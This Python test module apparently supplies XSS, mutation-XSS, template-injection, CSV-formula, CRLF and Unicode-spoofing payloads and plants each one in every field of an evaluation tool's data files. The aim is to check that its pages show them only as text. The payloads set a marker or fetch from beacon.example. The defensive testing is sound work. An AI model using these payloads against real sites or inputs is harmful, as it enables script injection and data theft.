"""Texts that would run, fetch or mislead if a page took them for anything but text, and a plan to put one everywhere.

Every payload that can leave a mark leaves one of these: it sets `window.__xss`, sets the title to `TITLE`, opens a dialog,
goes somewhere else, or fetches from a host under `HOST`. A page that shows it as text has none of them.
"""

from dataclasses import dataclass
from typing import Any, Literal

HOST = "beacon.example"
TITLE = "run by a payload"

Fires = Literal["alone", "clicked", "never"]
"""Put raw into the body of a page without a policy, in a current Chromium: it leaves its mark on loading, when it is
clicked or focused, or not at all (other browsers, other contexts, or only misleading to people)."""


@dataclass(frozen=True, kw_only=True, slots=True)
class Payload:
    name: str
    text: str
    fires: Fires = "never"


def _script(name: str) -> str:
    # no quotes, to stand in any attribute; not a string, which a javascript: link would show as a page of its own
    return f"window.__xss=/{name}/"


def _url(name: str) -> str:
    return f"http://{name}.{HOST}/{name}"


def _alone(name: str, text: str) -> Payload:
    """`JS` in the text becomes the code that leaves a mark, `URL` an address that would be noticed."""
    return _payload(name, text, "alone")


def _clicked(name: str, text: str) -> Payload:
    return _payload(name, text, "clicked")


def _never(name: str, text: str) -> Payload:
    return _payload(name, text, "never")


def _payload(name: str, text: str, fires: Fires) -> Payload:
    return Payload(name=name, text=text.replace("JS", _script(name)).replace("URL", _url(name)), fires=fires)


PAYLOADS: tuple[Payload, ...] = (
    # ---- scripts ----
    _alone("script", "<script>JS</script>"),
    _alone("script-upper", "<SCRIPT\t>JS</SCRIPT >"),
    _alone("script-slash", "<script/x>JS</script>"),
    _alone("script-src", "<script src=URL></script>"),
    _alone("script-module", "<script type=module>JS</script>"),
    _alone("script-data", '<script src="data:text/javascript,JS"></script>'),
    _alone("script-nested", "<scr<script>ipt>x</script><script>JS</script>"),
    _alone("script-title", f"<script>document.title='{TITLE}'</script>"),
    _alone("script-dialog", "<script>alert('script-dialog')</script>"),
    _never("script-unclosed", "<script>JS//"),
    _alone("script-html-comment", "<script><!--\nJS\n--></script>"),
    # ---- event handlers ----
    _alone("img-onerror", "<img src=x: onerror=JS>"),
    _alone("img-unquoted", "<img/src=x:/onerror=JS/>"),
    _alone("img-backtick", "<img src=`x` onerror=JS>"),
    _alone("img-newline", "<img src=x:\nonerror\n=\nJS>"),
    _alone("img-entity", "<img src=x: onerror=&#119;indow.__xss=1>"),
    _alone("img-eval", "<img src=x: onerror=eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,120,115,115,61,49))>"),
    _alone("details-ontoggle", "<details open ontoggle=JS><summary>x</summary></details>"),
    _alone("input-autofocus", "<input autofocus onfocus=JS>"),
    _alone("select-autofocus", "<select autofocus onfocus=JS><option>x</select>"),
    _alone("video-onerror", "<video><source onerror=JS src=x:></video>"),
    _alone("audio-onerror", "<audio src=x: onerror=JS></audio>"),
    _alone("style-onload", "<style onload=JS></style>"),
    _alone("animation-onstart", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>x</b>"),
    _never("body-onload", "<body onload=JS>"),
    _clicked("button-onclick", "<button onclick=JS>press</button>"),
    _clicked("attribute-break", '" autofocus onfocus=JS tabindex=1 x="<a href=# onclick=JS>x</a>'),
    _never("attribute-break-single", "' onmouseover='JS' x='"),
    _never("attribute-break-bare", "x onmouseover=JS"),
    # ---- svg, mathml and what parsers make of them ----
    _alone("svg-onload", "<svg onload=JS>"),
    _alone("svg-script", "<svg><script>JS</script></svg>"),
    _alone("svg-script-href", "<svg><script href=URL></script></svg>"),
    _alone("svg-animate", "<svg><animate onbegin=JS attributeName=x dur=1s></svg>"),
    _alone("svg-image", "<svg><image href=URL /></svg>"),
    _alone("svg-foreign", "<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:parent.JS'></iframe></foreignObject></svg>"),
    _never("svg-use", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=JS></svg>#x'/></svg>"),
    _clicked("svg-link", "<svg width=40 height=40><a href='javascript:JS'><text y=20>press</text></a></svg>"),
    _clicked("mathml-link", "<math><mtext><a href='javascript:JS'>press</a></mtext></math>"),
    _alone("mxss-style", '<svg></p><style><a id="</style><img src=x: onerror=JS>">'),
    _alone("mxss-noscript", '<noscript><p title="</noscript><img src=x: onerror=JS>">'),
    _alone("mxss-mglyph", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=JS&gt;" src=x: onerror=JS>'),
    _never("mxss-form", "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=JS>"),
    _alone("mxss-comment", "<!--><img src=x: onerror=JS>-->"),
    _alone("mxss-template", "<template><p></template><img src=x: onerror=JS>"),
    _alone("cdata", "<![CDATA[><img src=x: onerror=JS>]]>"),
    # ---- links ----
    _clicked("link-javascript", '<a href="javascript:JS">press</a>'),
    _clicked("link-javascript-tab", '<a href="java\tscript:JS">press</a>'),
    _clicked("link-javascript-entity", '<a href="&#106;avascript&colon;JS">press</a>'),
    _clicked("link-remote", "<a href=URL>press</a>"),
    _clicked("link-ping", "<a href=# ping=URL>press</a>"),
    _never("link-data", '<a href="data:text/html,<script>JS</script>">press</a>'),
    _never("link-vbscript", '<a href="vbscript:MsgBox(1)">press</a>'),
    _never("markdown-javascript", "[press](javascript:JS)"),
    _never("markdown-javascript-entity", "[press](&#x6A;avascript:JS)"),
    _never("markdown-data", "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _never("markdown-autolink", "<javascript:JS>"),
    _never("markdown-image", "![x](URL)"),
    _never("markdown-image-title", '![x](URL "y\\" onerror=JS x=\\"")'),
    _never("markdown-reference", "[press][1]\n\n[1]: javascript:JS"),
    _alone("markdown-html", "*x*\n\n<img src=x: onerror=JS>\n\n`y`"),
    _alone("markdown-code-break", "```\n</code></pre><script>JS</script>\n```"),
    _never("markdown-frame", "| a |\n|---|\n| ![x](URL) |"),
    # ---- frames, forms, navigation ----
    _alone("iframe-srcdoc", '<iframe srcdoc="<script>parent.JS</script>"></iframe>'),
    _alone("iframe-javascript", '<iframe src="javascript:parent.JS"></iframe>'),
    _alone("iframe-remote", "<iframe src=URL></iframe>"),
    _alone("object-data", "<object data=URL></object>"),
    _alone("embed-src", "<embed src=URL>"),
    _alone("meta-refresh", '<meta http-equiv=refresh content="0;url=URL">'),
    _never("meta-policy", '<meta http-equiv=Content-Security-Policy content="script-src *">'),
    _alone("base-href", '<base href="http://base-href.beacon.example/"><img src=base-href>'),
    _clicked("form-action", "<form action=URL><button>press</button></form>"),
    _clicked("button-formaction", '<form><button formaction="javascript:JS">press</button></form>'),
    _alone("form-autosubmit", "<form id=f action=URL></form><script>document.forms.f.submit()</script>"),
    _never("portal", "<portal src=URL></portal>"),
    # ---- fetching without a script ----
    _alone("img-beacon", "<img src=URL>"),
    _alone("img-beacon-relative", '<img src="//img-beacon-relative.beacon.example/x">'),
    _alone("img-srcset", '<img srcset="URL 1x, URL?2 2x">'),
    _alone("picture-source", "<picture><source srcset=URL><img></picture>"),
    _alone("video-poster", "<video poster=URL></video>"),
    _never("video-track", "<video><track default src=URL></video>"),
    _alone("input-image", "<input type=image src=URL>"),
    _alone("body-background", "<table background=URL><tr><td>x</table>"),
    _alone("link-stylesheet", "<link rel=stylesheet href=URL>"),
    _alone("link-prefetch", "<link rel=prefetch href=URL>"),
    _alone("link-preload", "<link rel=preload as=image href=URL>"),
    _never("link-preconnect", "<link rel=preconnect href=URL>"),
    _never("link-manifest", "<link rel=manifest href=URL>"),
    # ---- styles ----
    _alone("css-import", "<style>@import url(URL);</style>"),
    _alone("css-background", '<p style="background:url(URL)">x</p>'),
    _alone("css-font", "<style>@font-face{font-family:z;src:url(URL)}</style><b style=font-family:z>x</b>"),
    _alone("css-attribute", "<style>input[value^=a]{background:url(URL)}</style><input value=abc>"),
    _never("css-expression", '<p style="width:expression(JS)">x</p>'),
    _never("css-break", "}*{background:url(URL)}"),
    _never("css-cover", '<div style="position:fixed;inset:0;background:red;z-index:9">Log in again</div>'),
    # ---- ways out of where a text is put ----
    _alone("close-script", "</script><script>JS</script>"),
    _alone("close-style", "</style><script>JS</script>"),
    _alone("close-title", "</title><script>JS</script>"),
    _alone("close-textarea", "</textarea><script>JS</script>"),
    _alone("close-comment", "--><script>JS</script><!--"),
    _alone("close-table", "</td></tr></table><script>JS</script>"),
    _alone("close-svg-text", "</text></svg><script>JS</script>"),
    _alone("close-pre", "</pre></code></details><script>JS</script>"),
    _alone("close-template", "</template></noscript></select><script>JS</script>"),
    _never("json-break", '"}]};JS;//'),
    _never("json-break-single", "';JS;//"),
    _never("json-line-separator", "\u2028JS\u2029//"),
    _never("json-comment", "<!--<script>"),
    # ---- templates and names that mean something to programs ----
    _never("template-mustache", "{{constructor.constructor('JS')()}}"),
    _never("template-dollar", "${JS}"),
    _never("template-jinja", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}"),
    _never("template-erb", "<%= JS %><?php JS ?>"),
    _clicked("htmx", "<div hx-get=URL hx-trigger=load hx-on:click=JS onclick=JS>press</div>"),
    _never("alpine", '<div x-data x-init="JS" @click="JS" v-on:click="JS">x</div>'),
    _alone("clobber-id", "<a id=__xss href=x:y>x</a><form name=body><input name=innerHTML></form>"),
    _alone("clobber-name", "<form name=__xss><input name=attributes></form><img name=getElementById>"),
    _never("prototype", "__proto__"),
    _never("constructor", "constructor"),
    _never("to-string", "toString"),
    # ---- texts that are not what they seem ----
    _never("entities", "&lt;script&gt;JS&lt;/script&gt;&amp;&quot;&#x27;&nbsp;&notanentity;&#0;&copy"),
    _never("entities-twice", "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;"),
    _never("percent", "%3Cscript%3EJS%3C/script%3E"),
    _never("escapes", "\\u003cscript\\u003eJS\\x3c/script\\x3e"),
    _never("utf-7", "+ADw-script+AD4-JS+ADw-/script+AD4-"),
    _never("fullwidth", "＜script＞JS＜/script＞"),
    _alone("null-bytes", "<script>JS</script>\x00<scr\x00ipt>JS</script>"),
    _never("null-in-tag", "<scr\x00ipt>JS</scr\x00ipt>"),
    _never("ansi", "\x1b[2J\x1b[31mred\x1b]8;;URL\x07press\x1b]8;;\x07\x9b31m"),
    _never("bidi", "\u202egnp.txt\u202c \u2066<img\u2069 abc\u200f\u061c"),
    _never("zero-width", "ad\u200bmin\u2060\ufeff\u00ad\U000e0041\u200d"),
    _never("noncharacters", "a\ufffe\uffff\U0001fffeb\ufdd0"),
    _never("combining", "Z" + "\u0301\u0322\u035c" * 60),
    _never("formula", '=HYPERLINK("URL","press")'),
    _never("log-command", "::set-output name=x::JS\n##vso[task.setvariable]x"),
    _never("carriage-returns", "good\r\nSet-Cookie: __xss=1\r\n\r\n<script>JS</script>"),
    _alone("overlong-tag", '<img src=x: onerror=JS title="' + "A" * 5000 + '">'),
    _never("overlong-word", "W" * 6000),
    _never("overlong-wide", "𝕎" * 900 + "漢" * 900),
)  # fmt: skip


@dataclass(frozen=True, kw_only=True, slots=True)
class Planted:
    """One payload in every place that somebody other than us can write to."""

    payload: Payload
    case: dict[str, Any]
    """A row of the cases file: every field, column names and metadata names too."""
    label: dict[str, Any]
    """A row of a labels file."""
    judge: str
    """A judge file with it in name, description, anchors and prompt; it rates 0 to 5. Names cannot hold most of it."""
    run_name: str
    """As it is but for control characters, which a run's name cannot have."""
    replies: tuple[dict[str, Any], ...]
    """Rows of a `scripted:` file, for `planted` of the same case id: a verdict whose reason and further parts hold it."""
    failures: tuple[tuple[dict[str, Any], dict[str, Any]], ...]
    """(case, row of the script): cases that fail in different ways, with it in their ids and in what is said of them."""


def planted(payload: Payload, *, score: int = 0, **more: Any) -> Planted:
    """`more` are further columns of the case."""
    text = payload.text
    case_id = f"{payload.name} {text}"
    case = {
        "id": case_id,
        "question": text,
        "response": text,
        "reference": [text, f"{text}!"],
        "context": [text, {"title": text, text: text}],
        "tool_calls": [{"name": text, "arguments": {text: text}, "result": text}],
        "messages": [{"role": "user", "content": text}, {"role": "assistant", "content": text}],
        "focus": text,
        "label": text,
        "annotators": [{"annotator": text, "label": text, "explanation": text}],
        "cluster": text,
        "metadata": {"topic": text, text: text, f"in {payload.name}": {text: [text]}},
        text: text,
        **more,
    }
    label = {"case_id": case_id, "label": 1, "annotator": text, "explanation": text, "comment": text}
    verdict = {"reason": text, "score": score, text: text, "extra": [text]}
    fails = (
        ("unreadable", {"reply": text}),
        ("off-scale", {"reply": {"reason": text, "score": text}}),
        ("refused", {"reply": text, "finish": "refusal"}),
        ("truncated", {"reply": text, "finish": "length"}),
        ("call-failed", {"status": 400, "reply": text}),
    )
    return Planted(
        payload=payload,
        case=case,
        label=label,
        judge=_judge_file(payload),
        run_name=without_controls(f"{payload.name} {text}")[:120],
        replies=({"case_id": case_id, "reply": verdict, "model": text},),
        failures=tuple(
            (
                {**case, "id": f"{kind} {case_id}"},
                {"case_id": f"{kind} {case_id}", "model": text, **row},
            )
            for kind, row in fails
        ),
    )


def without_controls(text: str) -> str:
    """What can stand in a command's arguments, and in the name of a run."""
    return "".join(letter for letter in text if letter.isprintable())


def _judge_file(payload: Payload) -> str:
    quoted = _yaml(payload.text)
    return (
        f"---\nadjudge: 1\nname: judge-{payload.name}\ndescription: {quoted}\n"
        "inputs: {question: required, response: required}\n"
        "verdict: {reason: string, score: {enum: [0, 1, 2, 3, 4, 5]}}\nscore: score\nscale: [0, 5]\npasses: score >= 3\n"
        f"anchors: {{0: {quoted}, 5: {quoted}}}\n---\n"
        f"Rate the response from 0 to 5.\n{_outside_syntax(payload.text)}\n{{{{question}}}}\n{{{{response}}}}\n"
    )


def _yaml(text: str) -> str:
    """A double-quoted scalar in ASCII."""
    return '"' + "".join(_yaml_letter(letter) for letter in text) + '"'


def _yaml_letter(letter: str) -> str:
    if letter.isascii() and letter.isprintable() and letter not in '"\\':
        return letter
    return f"\\U{ord(letter):08x}"


def _outside_syntax(text: str) -> str:
    """In a prompt, braces and message tags are the author's own syntax and not somebody's text."""
    return "".join(letter for letter in text if letter.isprintable() and letter not in "{}%$")
